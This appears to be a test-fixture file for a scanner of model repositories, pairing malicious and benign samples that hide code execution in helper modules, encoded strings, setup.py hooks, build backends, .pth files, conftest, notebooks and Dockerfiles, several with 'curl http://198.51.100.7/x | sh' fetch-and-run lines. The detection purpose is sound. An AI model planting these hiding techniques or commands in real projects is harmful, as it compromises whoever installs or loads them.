import { command, type Files, type Sample } from './sample.ts';

const run = `import os\nos.system("${command}")\n`;
const base64 = Buffer.from(run).toString('base64');

/** What makes transformers import `modeling_x.py`. */
export const configuration: string = JSON.stringify({
  model_type: 'x',
  auto_map: { AutoModel: 'modeling_x.Model' },
});

function repository(model: string, others: Files = {}): Files {
  return { 'config.json': configuration, 'modeling_x.py': model, ...others };
}

function notebook(source: string): string {
  const cell = { cell_type: 'code', metadata: {}, execution_count: null, outputs: [], source };
  return JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [cell] });
}

/** What runs out of several files, or out of files that are not modules. */
export const repositories: readonly Sample[] = [
  {
    name: 'import of another file',
    bad: repository('from .helper import x', { 'helper.py': run }),
    good: repository('from .helper import x', { 'helper.py': 'x = 1\n' }),
  },
  {
    name: 'function of another file',
    bad: repository('from .helper import go\ngo()', {
      'helper.py': `import os\ndef go():\n    os.system("${command}")\n`,
    }),
    good: repository('from .helper import go\ngo()', {
      'helper.py': 'import os\ndef go():\n    return os.getcwd()\n',
    }),
  },
  {
    name: 'function of another file, named late',
    bad: repository(`from . import helper\nimport os\nhelper.call(os.system, "${command}")`, {
      'helper.py': 'def call(f, x):\n    return f(x)\n',
    }),
    good: repository('from . import helper\nhelper.call(len, "abc")', {
      'helper.py': 'def call(f, x):\n    return f(x)\n',
    }),
  },
  {
    name: 'base class of another file',
    bad: repository('from .base import Base\nclass Model(Base):\n    pass', {
      'base.py': `import os\nclass Base:\n    def __init_subclass__(cls):\n        os.system("${command}")\n`,
    }),
    good: repository('from .base import Base\nclass Model(Base):\n    pass', {
      'base.py': 'class Base:\n    def __init_subclass__(cls):\n        cls.x = 1\n',
    }),
  },
  {
    name: 'decorator of another file',
    bad: repository('from .base import d\n@d\nclass Model:\n    pass', {
      'base.py': `import os\ndef d(c):\n    os.system("${command}")\n    return c\n`,
    }),
    good: repository('from .base import d\n@d\nclass Model:\n    pass', {
      'base.py': 'def d(c):\n    c.x = 1\n    return c\n',
    }),
  },
  {
    name: 'text of another file',
    bad: repository('from .texts import T\nexec(T)', { 'texts.py': `T = ${JSON.stringify(run)}\n` }),
    good: repository('from .texts import T\nprint(T)', { 'texts.py': `T = ${JSON.stringify(run)}\n` }),
  },
  {
    name: 'dictionary of another file',
    bad: repository('from .texts import T\nimport base64\nexec(base64.b64decode(T["a"]["b"]))', {
      'texts.py': `T = {"a": {"b": "${base64}"}}\n`,
    }),
    good: repository('from .texts import T\nprint(T["a"]["b"])', { 'texts.py': 'T = {"a": {"b": "c"}}\n' }),
  },
  {
    name: 'docstring of another file',
    bad: repository('from . import texts\nexec(texts.__doc__)', {
      'texts.py': `"""${run.replaceAll('"', "'")}"""\n`,
    }),
    good: repository('from . import texts\nprint(texts.__doc__)', { 'texts.py': '"""Texts."""\n' }),
  },
  {
    name: 'alias of another file',
    bad: repository(`from .names import f\nf("${command}")`, {
      'names.py': 'import os as o\nf = getattr(o, "sys" + "tem")\n',
    }),
    good: repository('from .names import f\nf("abc")', { 'names.py': 'f = len\n' }),
  },
  {
    name: 'star import of another file',
    bad: repository(`from .names import *\nf("${command}")`, { 'names.py': 'from os import system as f\n' }),
    good: repository('from .names import *\nf("abc")', { 'names.py': 'f = len\n' }),
  },
  {
    name: 'over three files',
    bad: repository('from .a import f\nf()', {
      'a.py': 'from .b import g as f\n',
      'b.py': `from .c import h\ndef g():\n    h("${command}")\n`,
      'c.py': 'import os\nh = os.system\n',
    }),
    good: repository('from .a import f\nf()', {
      'a.py': 'from .b import g as f\n',
      'b.py': 'from .c import h\ndef g():\n    h("abc")\n',
      'c.py': 'h = len\n',
    }),
  },
  {
    name: 'package and its __init__',
    bad: repository('from .sub.inner import x', { 'sub/__init__.py': run, 'sub/inner.py': 'x = 1\n' }),
    good: repository('from .sub.inner import x', { 'sub/__init__.py': '', 'sub/inner.py': 'x = 1\n' }),
  },
  {
    name: 'importlib and a file of the repository',
    bad: repository('import importlib\nimportlib.import_module(".helper", __package__)', {
      'helper.py': run,
    }),
    good: repository('import importlib\nimportlib.import_module(".helper", __package__)', {
      'helper.py': 'x = 1\n',
    }),
  },
  {
    name: 'text file that is executed',
    bad: repository('import os\nexec(open(os.path.join(os.path.dirname(__file__), "notes.txt")).read())', {
      'notes.txt': run,
    }),
    good: repository('import os\nx = open(os.path.join(os.path.dirname(__file__), "notes.txt")).read()', {
      'notes.txt': 'a\nb\n',
    }),
  },
  {
    name: 'text file that is executed, pathlib',
    bad: repository('from pathlib import Path\nexec((Path(__file__).parent / "notes.txt").read_text())', {
      'notes.txt': run,
    }),
    good: repository('from pathlib import Path\nx = (Path(__file__).parent / "notes.txt").read_text()', {
      'notes.txt': 'a\n',
    }),
  },
  {
    name: 'JSON that is executed',
    bad: repository('import json\nexec(json.load(open("extra.json"))["init"])', {
      'extra.json': JSON.stringify({ init: run }),
    }),
    good: repository('import json\nx = json.load(open("extra.json"))["init"]', {
      'extra.json': JSON.stringify({ init: 'normal' }),
    }),
  },
  {
    name: 'package data that is executed',
    bad: repository('import pkgutil\nexec(pkgutil.get_data(__name__, "notes.txt"))', { 'notes.txt': run }),
    good: repository('import pkgutil\nx = pkgutil.get_data(__name__, "notes.txt")', { 'notes.txt': 'a\n' }),
  },
  {
    name: 'name of a function out of JSON',
    bad: repository('import json, os\nc = json.load(open("extra.json"))\ngetattr(os, c["f"])(c["x"])', {
      'extra.json': JSON.stringify({ f: 'system', x: command }),
    }),
    good: repository('import json, math\nc = json.load(open("extra.json"))\nx = getattr(math, c["f"])', {
      'extra.json': '{"f": "sqrt"}',
    }),
  },
  {
    name: 'module of the repository hides the library',
    bad: repository('import sys, os\nsys.path.insert(0, os.path.dirname(__file__))\nimport helper', {
      'helper.py': run,
    }),
    good: repository('from . import helper', { 'helper.py': 'x = 1\n' }),
  },
  {
    name: 'setup.py',
    bad: {
      'setup.py': `from setuptools import setup\nimport os\nos.system("${command}")\nsetup(name="x")\n`,
    },
    good: {
      'setup.py':
        'from setuptools import setup, find_packages\nsetup(name="x", version="1", packages=find_packages())\n',
    },
  },
  {
    name: 'setup.py, cmdclass',
    bad: {
      'setup.py': `from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        install.run(self)\n        os.system("${command}")\nsetup(name="x", cmdclass={"install": I})\n`,
    },
    good: {
      'setup.py':
        'from setuptools import setup\nfrom setuptools.command.build_py import build_py\nclass B(build_py):\n    def run(self):\n        super().run()\nsetup(name="x", cmdclass={"build_py": B})\n',
    },
  },
  {
    name: 'build backend of the repository',
    least: 'review',
    bad: {
      'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
      'backend.py': `import os\ndef build_wheel(*args, **kw):\n    os.system("${command}")\n`,
    },
    good: {
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
      'x/__init__.py': 'x = 1\n',
    },
  },
  { name: 'sitecustomize', bad: { 'sitecustomize.py': run }, good: { 'modeling_x.py': 'x = 1\n' } },
  { name: 'file of paths', bad: { 'x.pth': `import os; os.system("${command}")\n`, 'a.py': 'x = 1\n' } },
  {
    name: 'conftest',
    bad: { 'conftest.py': run, 'test_x.py': 'def test_x():\n    assert True\n' },
    good: {
      'conftest.py': 'import pytest\n@pytest.fixture\ndef x():\n    return 1\n',
      'test_x.py': 'def test_x(x):\n    assert x\n',
    },
  },
  {
    name: 'hubconf',
    bad: { 'hubconf.py': run },
    good: { 'hubconf.py': 'dependencies = ["torch"]\ndef model(pretrained=False):\n    return None\n' },
  },
  {
    name: 'notebook, Python',
    least: 'review',
    bad: { 'x.ipynb': notebook(`import os\nos.system("curl http://198.51.100.7/x | sh")`) },
    good: { 'x.ipynb': notebook('import math\nmath.sqrt(2)') },
  },
  {
    name: 'notebook, command',
    least: 'review',
    bad: { 'x.ipynb': notebook('!curl http://198.51.100.7/x | sh') },
    good: { 'x.ipynb': notebook('!ls') },
  },
  {
    name: 'notebook, cell magic',
    least: 'review',
    bad: { 'x.ipynb': notebook('%%bash\ncurl http://198.51.100.7/x | sh') },
    good: { 'x.ipynb': notebook('%%time\nx = 1') },
  },
  {
    name: 'notebook, assigned',
    least: 'review',
    bad: { 'x.ipynb': notebook('x = !curl http://198.51.100.7/x | sh') },
    good: { 'x.ipynb': notebook('%matplotlib inline\nx = 1') },
  },
  {
    name: 'Dockerfile',
    least: 'review',
    bad: { Dockerfile: 'FROM python:3.12\nRUN curl http://198.51.100.7/x | sh\n' },
    good: {
      Dockerfile:
        'FROM python:3.12-slim@sha256:0000000000000000000000000000000000000000000000000000000000000000\nWORKDIR /app\nCOPY . .\nUSER app\n',
    },
  },
  {
    name: 'Dockerfile, escaped and continued',
    least: 'review',
    bad: { Dockerfile: '# escape=`\nFROM python:3.12\nRUN cu`\nrl http://198.51.100.7/x `\n | sh\n' },
  },
  {
    name: 'Dockerfile, here-document',
    least: 'review',
    bad: {
      Dockerfile:
        '# syntax=docker/dockerfile:1\nFROM python:3.12\nRUN <<EOT\ncurl http://198.51.100.7/x | sh\nEOT\n',
    },
  },
];
